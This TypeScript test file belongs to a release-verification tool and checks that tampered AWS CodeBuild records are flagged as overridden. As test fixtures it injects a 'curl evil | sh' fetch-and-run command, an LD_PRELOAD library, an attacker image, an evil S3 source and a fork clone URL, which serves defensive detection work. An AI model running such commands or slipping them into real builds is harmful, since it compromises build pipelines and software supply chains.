/**
 * Overrides IAM cannot refuse (a grant changed by hand, StartBuild fields without a condition key)
 * still show in the build's own record: the checker compares BatchGetBuilds' image, command,
 * variables and privileged mode with the plan, and any departure is BUILD_OVERRIDDEN (INCOMPLETE).
 */
import type { Build } from '@aws-sdk/client-codebuild';
import { describe, expect, it } from 'vitest';
import { BUILD_ENV } from '../../lambda/adapters/builder/codebuild-env';
import { CodeBuildResults, overridesOf, type ExpectedRecipe } from '../../lambda/adapters/builder/codebuild-results';
import { FINDING_CODES } from '../../lambda/core/findings';
import type { RunPlan } from '../../lambda/core/run/plan';

const IMAGE = `debian@sha256:${'c'.repeat(64)}`;
const recipe: ExpectedRecipe = { command: 'make release', env: { CARGO_TERM_COLOR: 'never' }, privileged: false };
const RUN = '20260302T030000Z-abcdef';

/** a build record as BatchGetBuilds returns it: the project's variables, then the launcher's */
function build(change: (b: Build) => void = () => undefined): Build {
  const b: Build = {
    id: 'relverify-rv-linux:0b8e9c3e-2f57-4c5e-9a3e-6d1f2b3c4d5e',
    projectName: 'relverify-rv-linux',
    buildStatus: 'SUCCEEDED',
    buildComplete: true,
    environment: {
      type: 'LINUX_CONTAINER',
      image: IMAGE,
      computeType: 'BUILD_GENERAL1_MEDIUM',
      privilegedMode: false,
      environmentVariables: [
        { name: BUILD_ENV.command, value: 'make release', type: 'PLAINTEXT' },
        { name: BUILD_ENV.target, value: 'linux', type: 'PLAINTEXT' },
        { name: 'CARGO_TERM_COLOR', value: 'never', type: 'PLAINTEXT' },
        { name: BUILD_ENV.runId, value: RUN, type: 'PLAINTEXT' },
        { name: BUILD_ENV.commit, value: 'a'.repeat(40), type: 'PLAINTEXT' },
        { name: BUILD_ENV.tag, value: 'v1.0.0', type: 'PLAINTEXT' },
        { name: BUILD_ENV.version, value: '1.0.0', type: 'PLAINTEXT' },
        { name: BUILD_ENV.cloneUrl, value: 'https://gitlab.example/g/app.git', type: 'PLAINTEXT' },
        { name: BUILD_ENV.artifacts, value: 'out/app', type: 'PLAINTEXT' },
      ],
    },
  };
  change(b);
  return b;
}
const vars = (b: Build) => b.environment!.environmentVariables!;
// what the launcher sets for this run and target (codebuild-launcher.ts), exactly
const launched: Record<string, string> = {
  [BUILD_ENV.runId]: RUN,
  [BUILD_ENV.target]: 'linux',
  [BUILD_ENV.commit]: 'a'.repeat(40),
  [BUILD_ENV.tag]: 'v1.0.0',
  [BUILD_ENV.version]: '1.0.0',
  [BUILD_ENV.cloneUrl]: 'https://gitlab.example/g/app.git',
  [BUILD_ENV.artifacts]: 'out/app',
};
const plan = {
  runId: RUN,
  version: '1.0.0',
  release: { tag: 'v1.0.0', name: 'v1.0.0', commitSha: 'a'.repeat(40), tagCommitSha: 'a'.repeat(40), links: [] },
  targets: [{ name: 'linux', image: IMAGE, artifacts: [{ path: 'out/app' }] }],
} as unknown as RunPlan;
const launch = { plan, cloneUrl: 'https://gitlab.example/g/app.git', stagedSource: false };

describe('the build record compared with the plan', () => {
  it('a build as planned has no overrides', () => {
    expect(overridesOf(build(), IMAGE, recipe, launched)).toEqual([]);
  });
  it('each departure is named', () => {
    expect(
      overridesOf(
        build((b) => (b.environment!.image = 'attacker/img@sha256:' + '0'.repeat(64))),
        IMAGE,
        recipe,
        launched,
      ),
    ).toEqual([expect.stringMatching(/^image attacker\/img@sha256:0+, planned debian@sha256/)]);
    expect(
      overridesOf(
        build((b) => (vars(b)[0]!.value = 'curl evil | sh')),
        IMAGE,
        recipe,
        launched,
      ),
    ).toEqual([`variable ${BUILD_ENV.command} is "curl evil | sh", planned "make release"`]);
    expect(
      overridesOf(
        build((b) => vars(b).push({ name: BUILD_ENV.command, value: 'curl evil | sh', type: 'PLAINTEXT' })),
        IMAGE,
        recipe,
        launched,
      ),
    ).toEqual([expect.stringMatching(/variable RELVERIFY_COMMAND is "make release \| curl evil \| sh"/)]);
    expect(
      overridesOf(
        build((b) => vars(b).push({ name: 'LD_PRELOAD', value: '/tmp/x.so', type: 'PLAINTEXT' })),
        IMAGE,
        recipe,
        launched,
      ),
    ).toEqual(['variable LD_PRELOAD was not planned']);
    expect(
      overridesOf(
        build((b) => vars(b).splice(2, 1)),
        IMAGE,
        recipe,
        launched,
      ),
    ).toEqual(['variable CARGO_TERM_COLOR missing']);
    expect(
      overridesOf(
        build((b) => (vars(b)[3]!.type = 'PARAMETER_STORE')),
        IMAGE,
        recipe,
        launched,
      ),
    ).toEqual([`variable ${BUILD_ENV.runId} is PARAMETER_STORE, not PLAINTEXT`]);
    expect(
      overridesOf(
        build((b) => (b.environment!.privilegedMode = true)),
        IMAGE,
        recipe,
        launched,
      ),
    ).toEqual(['privileged mode on, planned off']);
    expect(
      overridesOf(
        build((b) => (b.environment!.privilegedMode = true)),
        IMAGE,
        { ...recipe, privileged: true },
        launched,
      ),
    ).toEqual([]);
    expect(
      overridesOf(
        build((b) => (b.source = { type: 'S3', location: 'evil-bucket/src.zip' })),
        IMAGE,
        recipe,
        launched,
      ),
    ).toEqual(['source S3 evil-bucket/src.zip, planned none (NO_SOURCE)']);
    expect(
      overridesOf(
        build((b) => (b.source = { type: 'NO_SOURCE' })),
        IMAGE,
        recipe,
        launched,
      ),
    ).toEqual([]);
  });
  it('toBuildResult carries them (and a target without a recipe is refused, not trusted); the finding is INCOMPLETE', () => {
    const results = new CodeBuildResults({ projects: { 'relverify-rv-linux': 'linux' }, artifactsBucket: 'a', recipes: { linux: recipe } });
    const record = { runId: RUN, target: 'linux', build: build((b) => (b.environment!.image = 'other@sha256:' + '1'.repeat(64))) };
    expect(results.toBuildResult(record, IMAGE, launch).overrides).toHaveLength(1);
    expect(results.toBuildResult({ ...record, build: build() }, IMAGE, launch).overrides).toEqual([]);
    const noRecipe = new CodeBuildResults({ projects: { 'relverify-rv-linux': 'linux' }, artifactsBucket: 'a', recipes: {} });
    expect(noRecipe.toBuildResult({ ...record, build: build() }, IMAGE, launch).overrides).toEqual(['no recipe for target linux']);
    expect(FINDING_CODES.BUILD_OVERRIDDEN).toBe('INCOMPLETE');
    expect(FINDING_CODES.IMAGE_NOT_DIGEST_PINNED).toBe('NOTICE');
  });
});

describe('in the target report', () => {
  it('an overridden build is INCOMPLETE with BUILD_OVERRIDDEN even when the bytes match; a macOS fleet image is named as not pinned', async () => {
    const { mkdtemp, writeFile } = await import('node:fs/promises');
    const { tmpdir } = await import('node:os');
    const { join } = await import('node:path');
    const { checkTarget } = await import('../../lambda/core/check-target');
    const { DirectoryForge, planFor, testConfig } = await import('../handlers/support');
    const dir = await mkdtemp(join(tmpdir(), 'relverify-override-'));
    await writeFile(join(dir, 'app-2.0.0'), 'app\n');
    const none = { scheme: 'none', reason: 'test asset' } as const;
    const config = testConfig({
      targets: [
        { name: 'linux', image: IMAGE, command: 'make', artifacts: [{ path: 'dist/app', asset: 'app-{version}', signature: none }] },
        {
          name: 'mac',
          platform: 'macos',
          image: 'aws/codebuild/macos-arm-base:15',
          fleetArn: 'arn:aws:codebuild:eu-west-1:123456789012:fleet/mac:1',
          command: 'make',
          artifacts: [{ path: 'dist/app', asset: 'app-{version}', signature: none }],
        },
      ],
    });
    const sha = 'a'.repeat(40);
    const plan = planFor(config, RUN, sha);
    const forge = new DirectoryForge(plan.release, dir, '/nonexistent');
    const rebuilt = {
      fetch: async (_p: string, dest: string) => {
        await writeFile(dest, 'app\n');
        return { path: dest, sha256: (await import('node:crypto')).createHash('sha256').update('app\n').digest('hex'), size: 4 };
      },
    };
    const deps = { forge, workDir: dir, limits: { maxBytes: 1 << 20, timeoutMs: 5000 }, formats: (await import('../../lambda/formats/ops')).formatOps };
    const base = { buildId: 'b:1', sandbox: 'codebuild' as const, status: 'SUCCEEDED' as const, artifacts: rebuilt };
    const clean = await checkTarget(plan, 'linux', { ...base, target: 'linux', image: { ref: IMAGE, enforced: true }, overrides: [] }, deps);
    expect(clean.verdict).toBe('VERIFIED');
    const overridden = await checkTarget(
      plan,
      'linux',
      { ...base, target: 'linux', image: { ref: IMAGE, enforced: true }, overrides: ['variable LD_PRELOAD was not planned'] },
      deps,
    );
    expect(overridden.verdict).toBe('INCOMPLETE');
    expect(overridden.findings.map((f) => f.code)).toContain('BUILD_OVERRIDDEN');
    const mac = await checkTarget(
      plan,
      'mac',
      { ...base, target: 'mac', image: { ref: 'aws/codebuild/macos-arm-base:15', enforced: true }, overrides: [] },
      deps,
    );
    expect(mac.verdict).toBe('VERIFIED');
    const notice = mac.findings.find((f) => f.code === 'IMAGE_NOT_DIGEST_PINNED');
    expect(notice?.message).toMatch(/image not pinned by digest: fleet-provided \(aws\/codebuild\/macos-arm-base:15/);
    expect(clean.findings.map((f) => f.code)).not.toContain('IMAGE_NOT_DIGEST_PINNED');
  });
});

describe("the launcher's variables compared with the plan", () => {
  const set = (name: string, value: string) => (b: Build) => {
    b.environment!.environmentVariables = [...vars(b).filter((v) => v.name !== name), { name, value, type: 'PLAINTEXT' }];
  };

  it('the build as launched has none', () => {
    expect(overridesOf(build(), IMAGE, recipe, launched)).toEqual([]);
  });
  it('another commit, tag, version, clone URL, artifact list or staged source is an override', () => {
    expect(overridesOf(build(set(BUILD_ENV.commit, 'b'.repeat(40))), IMAGE, recipe, launched)).toEqual([
      `variable ${BUILD_ENV.commit} is "${'b'.repeat(40)}", planned "${'a'.repeat(40)}"`,
    ]);
    expect(overridesOf(build(set(BUILD_ENV.cloneUrl, 'https://evil.example/fork.git')), IMAGE, recipe, launched)).toEqual([
      expect.stringMatching(/^variable RELVERIFY_CLONE_URL is "https:\/\/evil.example\/fork.git"/),
    ]);
    expect(overridesOf(build(set(BUILD_ENV.tag, 'v0.9.0')), IMAGE, recipe, launched)).toEqual([expect.stringMatching(/^variable RELVERIFY_TAG is "v0.9.0"/)]);
    expect(overridesOf(build(set(BUILD_ENV.version, '0.9.0')), IMAGE, recipe, launched)).toEqual([
      expect.stringMatching(/^variable RELVERIFY_VERSION is "0.9.0"/),
    ]);
    expect(overridesOf(build(set(BUILD_ENV.artifacts, '')), IMAGE, recipe, launched)).toEqual([expect.stringMatching(/^variable RELVERIFY_ARTIFACTS is ""/)]);
    // a staged source the launcher did not stage (another run's tarball), and one it did but elsewhere
    expect(overridesOf(build(set(BUILD_ENV.sourceS3, 's3://a/sources/x/source.tar')), IMAGE, recipe, launched)).toEqual([
      `variable ${BUILD_ENV.sourceS3} was not planned`,
    ]);
    const staged = { ...launched, [BUILD_ENV.sourceS3]: `s3://a/sources/${RUN}/source.tar` };
    expect(overridesOf(build(set(BUILD_ENV.sourceS3, 's3://a/sources/x/source.tar')), IMAGE, recipe, staged)).toEqual([
      expect.stringMatching(/^variable RELVERIFY_SOURCE_S3 is "s3:\/\/a\/sources\/x\/source.tar"/),
    ]);
    expect(overridesOf(build(), IMAGE, recipe, staged)).toEqual([`variable ${BUILD_ENV.sourceS3} missing`]);
    // a launcher variable dropped (the buildspec would then fail or fall back)
    expect(
      overridesOf(
        build((b) => (b.environment!.environmentVariables = vars(b).filter((v) => v.name !== BUILD_ENV.cloneUrl))),
        IMAGE,
        recipe,
        launched,
      ),
    ).toEqual([`variable ${BUILD_ENV.cloneUrl} missing`]);
  });
  it('a build with a debug session (Session Manager, no IAM condition key) is an override', () => {
    expect(
      overridesOf(
        build((b) => (b.debugSession = { sessionEnabled: true })),
        IMAGE,
        recipe,
        launched,
      ),
    ).toEqual([expect.stringMatching(/debug session/)]);
    expect(
      overridesOf(
        build((b) => (b.debugSession = { sessionEnabled: false })),
        IMAGE,
        recipe,
        launched,
      ),
    ).toEqual([]);
  });
  it('toBuildResult derives the expected variables from the plan, the clone URL and aws.stageSource', () => {
    const results = new CodeBuildResults({ projects: { 'relverify-rv-linux': 'linux' }, artifactsBucket: 'a', recipes: { linux: recipe } });
    const record = { runId: RUN, target: 'linux', build: build() };
    expect(results.toBuildResult(record, IMAGE, launch).overrides).toEqual([]);
    expect(results.toBuildResult({ ...record, build: build(set(BUILD_ENV.commit, 'b'.repeat(40))) }, IMAGE, launch).overrides).toEqual([
      expect.stringMatching(/RELVERIFY_COMMIT/),
    ]);
    expect(results.toBuildResult(record, IMAGE, { ...launch, cloneUrl: 'https://gitlab.example/other/app.git' }).overrides).toEqual([
      expect.stringMatching(/RELVERIFY_CLONE_URL/),
    ]);
    // with aws.stageSource the build must read exactly this run's tarball in the artifacts bucket
    expect(results.toBuildResult(record, IMAGE, { ...launch, stagedSource: true }).overrides).toEqual([`variable ${BUILD_ENV.sourceS3} missing`]);
    expect(
      results.toBuildResult({ ...record, build: build(set(BUILD_ENV.sourceS3, `s3://a/sources/${RUN}/source.tar`)) }, IMAGE, { ...launch, stagedSource: true })
        .overrides,
    ).toEqual([]);
    // the wrong commit is caught by the variables; the build's own HEAD claim is not evidence
    expect(results.toBuildResult(record, IMAGE, launch).checkedOutSha).toBeUndefined();
  });
});
